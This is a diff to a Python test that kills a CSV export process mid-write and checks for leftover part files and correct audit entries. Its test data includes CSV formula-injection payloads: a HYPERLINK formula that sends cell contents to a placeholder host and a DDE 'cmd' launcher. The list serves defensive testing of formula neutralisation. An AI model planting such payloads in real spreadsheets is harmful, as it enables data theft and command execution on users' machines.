@@ -47,7 +47,8 @@ from triage.cli import main
 from triage.services.export_file import leftovers
 from triage.services.spreadsheet_csv import neutralise, restore
 
-KILLS = 20
+KILLS = 50 if os.environ.get("CI") else 20  # real SIGKILLs mid-export (issue 13: at least 50 in CI)
+SEED = int(os.environ.get("TRIAGE_KILL_SEED", "20261201"))  # where in the writing each kill lands
 FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
             "'already quoted", "=1+1"]  # fmt: skip
 
@@ -111,8 +112,11 @@ def test_an_export_killed_while_writing_leaves_no_part_file_and_is_audited(
     out_dir = tmp_path / "exports"
     out_dir.mkdir()
     target = out_dir / "all.csv"
-    killed = finished = 0
-    for run_number in range(1, KILLS + 1):
+    killed = finished = run_number = 0
+    rng = random.Random(SEED)
+    while killed < KILLS:  # real SIGKILLs mid-way, not runs
+        run_number += 1
+        assert run_number <= 2 * KILLS, f"only {killed} of {run_number - 1} exports were killed mid-way"
         process = _forked_export(big_store, target)
         assert process.pid is not None
         deadline = time.monotonic() + 60
@@ -120,7 +124,7 @@ def test_an_export_killed_while_writing_leaves_no_part_file_and_is_audited(
             assert time.monotonic() < deadline, "the export did not start writing within a minute"
             time.sleep(0.001)
         if process.is_alive():
-            time.sleep(random.uniform(0, 0.02))  # somewhere in the middle of the writing
+            time.sleep(rng.uniform(0, 0.02))  # somewhere in the middle of the writing
             os.kill(process.pid, signal.SIGKILL)
         process.join()
         if process.exitcode == -signal.SIGKILL:
@@ -132,7 +136,6 @@ def test_an_export_killed_while_writing_leaves_no_part_file_and_is_audited(
         assert sorted(p.name for p in out_dir.iterdir()) in ([], ["all.csv"])
         audited = [s for _, action, s in audit_trail(big_store, template.key) if action == "export"]
         assert audited == [f"exporting 4000 referrals (csv) to {target}"] * run_number, (killed, finished)
-    assert killed >= KILLS // 2, f"only {killed} of {KILLS} exports were killed mid-way; the test proves little"
     if target.exists():  # whatever is there is a whole export, never half of one
         assert len(list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))) == 4001
 
